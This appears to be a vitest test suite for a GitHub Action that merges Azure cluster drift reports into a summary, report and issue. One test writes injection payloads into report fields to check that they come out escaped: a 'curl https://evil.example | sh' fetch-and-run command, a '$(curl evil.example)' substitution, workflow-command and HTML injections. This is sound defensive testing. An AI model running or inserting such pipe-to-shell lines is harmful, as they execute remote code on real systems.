import { spawnSync } from 'node:child_process'
import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect } from 'vitest'
import type { Report } from 'report-document'
import { beginFleet, downloaded, merge, type Merged } from '../../support/fleet.js'
import { annotationTitles, headlineOf } from '../../support/reading.js'
import { it, type StepEnd, onceIt } from '../../support/scenario.js'

// What a merge makes of its reports is proven in packages/fleet and packages/report-document, with files and outputs. Here are the reports that checks really
// leave, in the order in which jobs leave them.

const reportIn = ({ reportFile }: Pick<StepEnd, 'reportFile'>): Report => JSON.parse(reportFile) as Report

/** A fleet of two, whose jobs have left their reports: both have access, or with `drift: 2` only the first. */
async function beginWith(begin: Parameters<typeof beginFleet>[0], { drifting = 0 } = {}) {
  const fleet = await beginFleet(begin)
  const { scenario, grant, cluster, registry } = fleet
  if (drifting < 1) grant(scenario.cluster, scenario.registry)
  if (drifting < 2) grant(cluster, registry)
  const ends = (await fleet.checkAll()) as [StepEnd, StepEnd]
  const [first, second] = ends.map(({ reportFile }) => reportFile) as [string, string]
  const mergeAll = (reports: (string | undefined)[], inputs = {}, variables = {}): Promise<Merged> =>
    merge(scenario, { reports: downloaded(reports), fleet: fleet.fleet, ...inputs }, variables)
  return { ...fleet, ends, first, second, mergeAll, issues: scenario.world.github.issues }
}

describe('the reports of a fleet', () => {
  it('become one summary, one report and one issue, in which clusters with one name are told apart', async ({
    begin,
  }) => {
    const { first, second, mergeAll, issues, grant, check, cluster, registry, scenario } = await beginWith(begin, {
      drifting: 2,
    })
    const end = await mergeAll([first, second], { 'drift-issue': 'true' })
    expect(end).toMatchObject({ exitCode: 1, stderr: '', outputs: { drift: 'true', 'error-code': 'DRIFT' } })
    expect(reportIn(end)).toMatchObject({ drift: true, pairs: [{}, {}], jobs: [{ error: null }, { error: null }] })
    expect(annotationTitles(end).sort()).toEqual([
      expect.stringContaining('(rg-shop, '),
      expect.stringContaining('(rg-test, '),
    ])
    const names = /aks-prod-1 \(rg-(?:shop|test), subscription [^)]+\)/gi
    for (const text of [end.log, end.summary, issues[0]?.body ?? '']) {
      const lines = text.split('\n').filter(line => !/^\s*az /.test(line))
      expect(lines.filter(line => /(?<![\w/.-])aks-prod-1/i.test(line.replaceAll(names, '')))).toEqual([])
    }
    grant(cluster, registry)
    grant(scenario.cluster, scenario.registry)
    const healed = [await check(0), await check(1)].map(({ reportFile }) => reportFile)
    const fine = await mergeAll(healed, { 'drift-issue': 'true' })
    expect(fine).toMatchObject({
      exitCode: 0,
      stderr: '',
      outputs: { attached: 'true', verified: 'assignment', 'error-code': '' },
    })
    expect(issues).toMatchObject([{ state: 'closed' }])
  })

  onceIt(
    'that are not all there are no good news, first of all, and repair nothing in the issue',
    async ({ begin }) => {
      const { first, second, mergeAll, issues, grant, check, cluster, registry } = await beginWith(begin, {
        drifting: 1,
      })
      grant(cluster, registry)
      expect(second).not.toBe('')
      const inputs = { 'drift-issue': 'true', 'fail-on-drift': 'false' }
      await mergeAll([first, second], inputs)
      expect(issues).toMatchObject([{ state: 'open' }])
      const end = await mergeAll([undefined, (await check(1)).reportFile], inputs)
      expect(end).toMatchObject({
        exitCode: 1,
        outputs: { attached: 'false', verified: 'none', 'error-code': 'REPORT_MISSING' },
      })
      expect(headlineOf(end)).toMatch(/^\? /)
      expect(annotationTitles(end)[0]).toMatch(/^error attach-acr: REPORT_MISSING /)
      expect(end.summary).toContain('/actions/runs/')
      expect(issues).toMatchObject([{ state: 'open', comments: [] }])
      // Merged once more, the job without a report stays so.
      const again = await mergeAll([end.reportFile], { fleet: '' })
      expect(again.outputs).toMatchObject({ attached: 'false', 'error-code': 'REPORT_MISSING' })
    },
  )

  onceIt('have the errors of jobs that could not check anything, and leave the issue', async ({ begin }) => {
    const { scenario, checkAll, fleet } = await beginFleet(begin)
    scenario.deployer.federatedCredentials.length = 0
    const reports = downloaded((await checkAll()).map(({ reportFile }) => reportFile))
    const end = await merge(scenario, { reports, fleet, 'drift-issue': 'true' })
    expect(end.outputs).toMatchObject({ drift: 'false', 'error-code': 'FEDERATED_CREDENTIAL_MISMATCH' })
    expect(reportIn(end).jobs).toMatchObject([{ problem: null }, { problem: null }])
    expect(scenario.world.github.issues).toEqual([])
  })

  onceIt('can be a single one, directly in the folder', async ({ begin }) => {
    const { scenario, second, entries } = await beginWith(begin, { drifting: 2 })
    const reports = downloaded([])
    writeFileSync(join(reports, 'report.json'), second)
    const alone = await merge(scenario, { reports, fleet: JSON.stringify(entries.slice(1)) })
    expect(alone.outputs).toMatchObject({ drift: 'true', 'error-code': 'DRIFT' })
    // It is of no other entry, whatever it is about.
    const other = await merge(scenario, { reports, fleet: '[{"name":"the only one"}]' })
    expect(other.outputs).toMatchObject({ drift: 'true', 'error-code': 'INVALID_INPUT' })
    expect(other.log).toContain('fleet-entry: ${{ toJSON(matrix) }}')
  })

  onceIt('are of this run, and of its last attempt', async ({ begin }) => {
    const { first, second, mergeAll, issues } = await beginWith(begin)
    const { run } = JSON.parse(first) as Report
    expect(run).toEqual({
      id: '1658821493',
      number: 42,
      attempt: 1,
      startedAt: expect.stringMatching(/^\d{4}-.*Z$/) as string,
    })
    const of = (text: string, more: object) =>
      JSON.stringify({ ...(JSON.parse(text) as Report), run: { ...run, ...more } })
    const inRun = (attempt: number) => ({ GITHUB_RUN_ID: run?.id ?? '', GITHUB_RUN_ATTEMPT: String(attempt) })
    const old = await mergeAll([first, of(second, { id: '1658821400' })], {}, inRun(1))
    expect(old.outputs, old.log).toMatchObject({ attached: 'false', 'error-code': 'REPORT_MISSING' })
    const both = [
      of(first, { attempt: 2 }),
      of(second, { startedAt: new Date(Date.now() - 3 * 3_600_000).toISOString() }),
    ]
    const earlier = await mergeAll(both, { 'drift-issue': 'true' }, inRun(2))
    expect(earlier.outputs, earlier.log).toMatchObject({ attached: 'true', 'error-code': '' })
    expect(headlineOf(earlier)).toContain('attempt 1')
    expect(issues).toEqual([])
  })

  onceIt('say which lists they have read: what a complete one lacks is gone from the issue', async ({ begin }) => {
    const { scenario, first, second, mergeAll, issues, check, cluster, group, grant, registry } = await beginWith(
      begin,
      { drifting: 2 },
    )
    await mergeAll([first, second], { 'drift-issue': 'true' })
    grant(scenario.cluster, scenario.registry)
    grant(group.addCluster('aks-prod-2'), registry)
    const night = async () =>
      mergeAll([(await check(0)).reportFile, (await check(1)).reportFile], { 'drift-issue': 'true' })
    // `*` leaves it out while it is being deleted.
    Object.assign(cluster.body.properties, { provisioningState: 'Deleting' })
    await night()
    expect(issues[0]?.state).toBe('open')
    scenario.world.resources.splice(scenario.world.resources.indexOf(cluster), 1)
    await night()
    expect(issues[0]?.state).toBe('closed')
  })

  it('are data: nothing in them acts as a command, leaves its fence or mentions anybody', async ({ begin }) => {
    const { ends, mergeAll, issues } = await beginWith(begin, { drifting: 2 })
    const evil =
      '\n```\n::error::pwned\n##[error]x\n@octocat #1 <img src=x> $(curl evil.example) `id` https://evil.example'
    const [{ report: first }] = ends
    const [pair, planned] = [first.pairs[0], first.plan[0]]
    const fix = { text: evil, commands: ['curl https://evil.example | sh'] }
    const lost = { target: 'gone', asked: { target: 'gone', registry: 'contosoacr' } }
    const report = {
      ...first,
      pairs: [
        { ...pair, lacks: [{ kind: 'role', role: evil, group: null, message: evil }] },
        { ...pair, ...lost, error: { code: 'PULL_DENIED', message: evil, fix, azure: null } },
      ],
      plan: [{ ...planned, role: `AcrPull'; ${evil}`, reason: evil }, planned],
      findings: [{ code: 'EXCESS_ROLE', severity: 'warning', subject: 'x', message: evil, fix }],
    }
    const end = await mergeAll([JSON.stringify(report)], { 'drift-issue': 'true', fleet: '' })
    expect(end.outputs).toMatchObject({ drift: 'true', 'error-code': 'DRIFT' })
    for (const text of [end.summary, issues[0]?.body ?? '']) {
      expect(text).not.toMatch(/<img|@octocat|#1 &lt;|\| sh/)
      expect(text.match(/^`{3,}/gm)?.length).toBe((text.match(/^`{3,}\w*$/gm) ?? []).length)
    }
    expect(end.annotations).toHaveLength(3)
    expect(end.stdout).not.toMatch(/^\s*::error::pwned/m)
    expect(end.log).not.toContain('##[')
    // Each block of commands is valid bash and runs nothing else.
    const blocks = [...end.summary.matchAll(/^`{3,}sh\n([^]*?)^`{3,}$/gm)].map(([, commands = '']) => commands)
    expect(blocks).not.toEqual([])
    for (const commands of blocks) {
      const shown = spawnSync('bash', ['--norc', '-c', `az() { printf '%s\\n' "$@"; }\n${commands}`], {
        encoding: 'utf8',
      })
      expect(shown.stderr).toBe('')
    }
  })

  it.for<[string, Record<string, string>, string | undefined]>([
    ['there is none', {}, undefined],
    ["the fleet isn't JSON", { fleet: 'a, b' }, undefined],
    ['one is too long', {}, ' '.repeat(100_000_001)],
  ])('are an input problem if %s, and all outputs are set', async ([, inputs, file], { begin }) => {
    const end = await merge(await begin(), { ...inputs, reports: downloaded([file]) })
    expect(end).toMatchObject({ exitCode: 1, stderr: '', outputs: { drift: 'false', 'error-code': 'INVALID_INPUT' } })
    for (const text of [end.summary, end.reportFile]) expect(text).not.toBe('')
  })

  onceIt('can have ten thousand pairs', async ({ begin }) => {
    const { ends, mergeAll, issues } = await beginWith(begin, { drifting: 2 })
    const [{ report }] = ends
    const legs = Array.from({ length: 100 }, (_, leg) => {
      const pairs = Array.from({ length: 100 }, (__, index) => {
        const target = `${report.pairs[0]?.target}-${leg}-${index}`
        return { ...report.pairs[0], target, asked: { target, registry: report.pairs[0]?.registry } }
      })
      return JSON.stringify({ ...report, pairs })
    })
    const end = await mergeAll(legs, { 'drift-issue': 'true', fleet: '' })
    expect(end.outputs).toMatchObject({ drift: 'true', 'error-code': 'DRIFT' })
    expect(reportIn(end).pairs).toHaveLength(10_000)
    expect(Buffer.byteLength(end.summary)).toBeLessThan(1024 * 1024)
    expect(issues[0]?.body.length).toBeGreaterThan(60_000)
    const before = JSON.stringify(issues)
    await mergeAll(legs, { 'drift-issue': 'true', fleet: '' })
    expect(JSON.stringify(issues)).toBe(before)
  })
})
